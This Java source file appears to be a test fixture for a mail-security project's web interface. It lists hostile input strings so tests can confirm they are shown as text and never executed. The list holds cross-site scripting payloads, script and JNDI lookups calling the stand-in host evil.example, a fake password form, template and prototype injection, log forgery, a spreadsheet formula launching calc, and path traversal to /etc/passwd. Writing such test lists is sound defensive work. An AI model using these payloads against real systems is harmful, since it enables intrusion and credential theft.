package org.smtpguard.it.web;

import java.util.List;

/**
 * What somebody sends who hopes that a page, a log or a program will take it for more than text: scripts, markup, ends of quotations
 * and comments, lines of logs, formats, templates, controls. One line each; octets are characters (ISO 8859-1).
 */
public final class HostileTexts {
    /** Set by whatever of it runs. */
    public static final String CANARY = "pwned";

    public static final List<String> ALL = List.of(
        "<script>window.pwned=1</script>",
        "<ScRiPt>window.pwned=1</sCrIpT>",
        "<script src=https://evil.example/x.js></script>",
        "<script/x>window.pwned=1</script>",
        "</script><script>window.pwned=1</script>",
        "<img src=x onerror=window.pwned=1>",
        "<img src=\"x\" onerror=\"window.pwned=1\">",
        "<IMG SRC=javascript:window.pwned=1>",
        "<svg onload=window.pwned=1>",
        "<svg><script>window.pwned=1</script></svg>",
        "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:window.pwned=1\"><text>x</text></a></svg>",
        "<body onload=window.pwned=1>",
        "<iframe src=javascript:window.pwned=1></iframe>",
        "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
        "<object data=\"data:text/html,<script>window.pwned=1</script>\"></object>",
        "<embed src=https://evil.example/x.swf>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>*{display:none}</style>",
        "</style><script>window.pwned=1</script>",
        "</title><script>window.pwned=1</script>",
        "</textarea><script>window.pwned=1</script>",
        "</pre><script>window.pwned=1</script>",
        "</code></dd></dl></div></li></ol><h1>gone</h1>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        "<form action=https://evil.example/><input name=password><button>Log in</button></form>",
        "<a href=javascript:window.pwned=1>click</a>",
        "<a href=\"https://evil.example/\" onmouseover=window.pwned=1>click</a>",
        "<input autofocus onfocus=window.pwned=1>",
        "<details open ontoggle=window.pwned=1>",
        "<marquee onstart=window.pwned=1>",
        "<math><mtext></mtext><mglyph><script>window.pwned=1</script></mglyph></math>",
        "<template><script>window.pwned=1</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
        "\"><script>window.pwned=1</script>",
        "'><script>window.pwned=1</script>",
        "\" onmouseover=\"window.pwned=1",
        "' onfocus='window.pwned=1' autofocus='",
        "x` onerror=window.pwned=1 `",
        "--><script>window.pwned=1</script><!--",
        "]]><script>window.pwned=1</script><![CDATA[",
        "&lt;script&gt;window.pwned=1&lt;/script&gt;",
        "&#60;script&#62;window.pwned=1&#60;/script&#62;",
        "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
        "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
        "\\x3cscript\\x3ewindow.pwned=1\\x3c/script\\x3e",
        "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
        "\u00bcscript\u00bewindow.pwned=1\u00bc/script\u00be",
        "javascript:window.pwned=1",
        "{{constructor.constructor('window.pwned=1')()}}",
        "${window.pwned=1}",
        "${jndi:ldap://evil.example/a}",
        "#{7*7} <%= 7*7 %> {% 7*7 %}",
        "';alert(window.pwned=1)//",
        "\",\"admin\":true,\"x\":\"",
        "{\"__proto__\":{\"pwned\":1}}",
        "%s%n%x{} {} %d",
        "smtpGuard.refused.X{job=\"x\"} 1",
        "a.b.c;d=e\t1\t2",
        "12:00:00.000 [ERROR] org.smtpguard.REFUSAL - 535 AUTH-CREDENTIALS refused AUTH client=198.51.100.66 session=deadbeef",
        "\u001b[31mred\u001b[0m \u0007\b\u007f",
        "\u0000\u0001\u001f\u0080\u009f\u00ff",
        "\u00e2\u0080\u00aedesrever",
        "x".repeat(600),
        "<".repeat(300),
        "=cmd|' /C calc'!A0",
        "../../../../etc/passwd",
        "<x y=");

    private HostileTexts() {
    }
}
